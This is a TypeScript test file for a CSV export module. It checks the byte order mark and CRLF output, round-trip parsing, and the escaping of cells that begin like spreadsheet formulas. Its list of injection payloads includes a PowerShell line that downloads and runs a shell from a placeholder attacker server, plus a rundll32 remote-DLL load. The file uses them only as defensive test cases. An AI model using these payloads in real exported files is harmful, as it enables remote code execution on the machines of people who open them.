import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Cell, guardCell, toCsv, unguardCell } from './csv'

/** A reader of RFC 4180, written apart from the writer. */
function parse(csv: string): string[][] {
  const text = csv.replace(/^\ufeff/, '')
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let field = ''
    if (text[at] === '"') {
      at += 1
      while (text[at] !== '"' || text[at + 1] === '"') {
        if (text[at] === undefined) throw new Error('a quote is not closed')
        if (text[at] === '"') at += 1
        field += text[at]
        at += 1
      }
      at += 1
    } else {
      while (at < text.length && !/[,\r\n"]/.test(text[at] as string)) {
        field += text[at]
        at += 1
      }
    }
    row.push(field)
    if (text[at] === ',') {
      at += 1
      if (at === text.length) row.push('')
    } else if (text.startsWith('\r\n', at)) {
      rows.push(row)
      row = []
      at += 2
    } else throw new Error(`neither a comma nor a line end at ${at}`)
  }
  return rows
}

const tricky = fc.array(
  fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '＝',
    '＋',
    '－',
    '＠',
    '"',
    "'",
    ',',
    '\r',
    '\n',
    '\t',
    ' ',
    '\u3000',
    '\u200b',
    '何',
    'a',
    '1',
  ),
  { maxLength: 6 },
)
const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  tricky.map((marks) => marks.join('')),
)
const cell: fc.Arbitrary<Cell> = fc.oneof(text, fc.integer())

describe('a CSV', () => {
  it('begins with a byte order mark and ends every line with CRLF', () => {
    expect(
      toCsv([
        ['姓名', '评论'],
        ['何知微', 6],
      ]),
    ).toBe('\ufeff姓名,评论\r\n何知微,6\r\n')
  })

  it('reads back as what was written, guarded', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const read = parse(toCsv(rows))
        expect(read).toEqual(
          rows.map((row) => row.map((one) => (typeof one === 'number' ? String(one) : guardCell(one)))),
        )
        const back = read.map((row, y) =>
          row.map((one, x) => (typeof rows[y]?.[x] === 'number' ? Number(one) : unguardCell(one))),
        )
        expect(back).toEqual(rows)
      }),
    )
  })

  it('keeps an apostrophe that somebody wrote before a line break', () => {
    expect(guardCell("'\n")).toBe("''\n")
    for (const text of ["'\n", "''\t", "'"]) expect(unguardCell(guardCell(text))).toBe(text)
  })

  it.each([
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
    '＝1+1',
    '＠SUM(1)',
    '\u3000=1',
    '\u200b+1',
    '\ufeff-1',
    '"=1+1"',
    "'=1",
    '\t1',
    '\r1',
    '\n1',
    '−1',
  ])('does not run %j', (payload) => {
    expect(guardCell(payload)).toBe(`'${payload}`)
    expect(toCsv([[payload]])).toMatch(/^\ufeff"?'/)
  })

  it.each(['何知微', '阿依努尔·买买提', '1-2', '(-1)', 'a=b', ''])('leaves %j as it is', (plain) => {
    expect(guardCell(plain)).toBe(plain)
  })

  it('never begins a cell of text with what begins a formula', () => {
    fc.assert(
      fc.property(text, (one) => {
        expect(guardCell(one)).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
      }),
    )
  })
})
